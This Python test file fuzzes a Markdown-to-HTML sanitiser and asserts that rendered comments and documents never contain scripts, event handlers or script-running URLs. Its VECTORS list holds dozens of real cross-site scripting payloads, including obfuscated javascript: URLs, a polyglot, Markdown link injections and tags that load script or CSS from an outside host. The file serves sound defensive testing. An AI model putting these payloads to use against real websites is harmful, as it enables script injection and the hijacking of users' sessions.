"""Fuzzing the Markdown-to-HTML path (render_markdown, which sanitises) with hostile building blocks.

The output is parsed with html.parser (attributes entity-decoded, names lower-cased) and must never hold a
script, style or iframe element, an event-handler attribute, or a link/source with a script-running URL.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.text.markdown import render_comment, render_markdown

FORBIDDEN_ELEMENTS = frozenset({"script", "style", "iframe", "object", "embed", "svg", "math", "base", "form"})
URL_ATTRIBUTES = frozenset({"href", "src", "xlink:href", "action", "formaction", "background", "poster", "data"})
BAD_URL_PREFIXES = ("javascript:", "vbscript:", "data:text/html")
# Browsers ignore ASCII whitespace and control characters inside a scheme ("jav\tascript:").
_URL_JUNK_RE = re.compile(r"[\x00-\x20\x7f]+")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_ELEMENTS:
            self.found.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"event attribute {name} on <{tag}>")
            if name == "style":
                self.found.append(f"style attribute on <{tag}>")
            if name in URL_ATTRIBUTES and value:
                url = _URL_JUNK_RE.sub("", html.unescape(value)).lower()
                if url.startswith(BAD_URL_PREFIXES):
                    self.found.append(f"{name}={value!r} on <{tag}>")


def executable_parts(output: str) -> list[str]:
    """Every script-capable construct in `output` (empty when safe)."""
    collector = _Collector()
    collector.feed(output)
    collector.close()
    lowered = output.lower()
    for raw in ("<script", "<style", "<iframe"):
        if raw in lowered:
            collector.found.append(f"raw {raw}")
    return collector.found


def test_the_checker_catches_what_it_should() -> None:
    assert executable_parts('<a href="jav&#x09;ascript&#58;alert(1)">x</a>')
    assert executable_parts('<img SRC="JaVaScRiPt:alert(1)">')
    assert executable_parts("<p onClick=alert(1)>x</p>")
    assert executable_parts('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>')
    assert executable_parts("<STYLE>x</STYLE>")
    assert executable_parts("<iframe src=x></iframe>")
    assert executable_parts('<a href="vbscript:msgbox(1)">x</a>')
    assert executable_parts("<svg/onload=alert(1)>")
    assert not executable_parts('<p>javascript:alert(1) &lt;script&gt;</p><a href="https://a.th/">x</a>')


VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt SRC=//xss.rocks/xss.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>@import 'http://xss.rocks/xss.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "'\"><img src=x onerror=alert(1)//>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "\"'--></style></script><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    "[a][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
]
FRAGMENTS = [
    "<",
    ">",
    "</",
    "/>",
    '"',
    "'",
    "`",
    "=",
    "&",
    "&#",
    ";",
    ":",
    "&#58;",
    "&colon;",
    "&Tab;",
    "&#x09;",
    "\t",
    "\n",
    "\n\n",
    "\x00",
    " ",
    "javascript",
    "jav",
    "ascript",
    "vbscript",
    "data:text/html,",
    "alert(1)",
    "script",
    "style",
    "iframe",
    "svg",
    "img",
    "a",
    " href=",
    " src=",
    " on",
    "error",
    "load",
    "click",
    "x",
    "[",
    "]",
    "(",
    ")",
    "![",
    "](",
    "> ",
    "- ",
    "1. ",
    "    ",
    "```",
    "`",
    "*",
    "**",
    "_",
    "|",
    "|---|",
    "#",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "http://x.th/",
    "บันทึก",
    "การจัดการความรู้ ",
    "ชุมพร",
]
MARKDOWN_WRAPPERS = [
    "{}",
    "> {}",
    "- {}",
    "1. {}",
    "# {}",
    "**{}**",
    "`{}`",
    "```\n{}\n```",
    "| a |\n|---|\n| {} |",
    "[{}](https://example.com)",
    "[x]({})",
    "![x]({})",
    "<div>{}</div>",
    '<a href="{}">x</a>',
    "<img src='{}'>",
    "บันทึก {} ภาษาไทย",
]

piece = st.one_of(st.sampled_from(VECTORS), st.sampled_from(FRAGMENTS), st.text(max_size=8))
soup = st.lists(piece, max_size=25).map("".join)
wrapped = st.tuples(st.sampled_from(MARKDOWN_WRAPPERS), soup).map(lambda pair: pair[0].replace("{}", pair[1]))
documents = st.lists(wrapped, min_size=1, max_size=6).map("\n".join)

FUZZ = settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def test_every_listed_vector_is_neutralised() -> None:
    for vector in VECTORS:
        for wrapper in MARKDOWN_WRAPPERS:
            source = wrapper.replace("{}", vector)
            assert executable_parts(render_markdown(source)) == [], source


@FUZZ
@given(documents)
def test_markdown_output_never_executes(source: str) -> None:
    assert executable_parts(render_markdown(source)) == []


@settings(max_examples=150, deadline=None)
@given(soup)
def test_comment_output_never_executes(source: str) -> None:
    assert executable_parts(render_comment(source)) == []
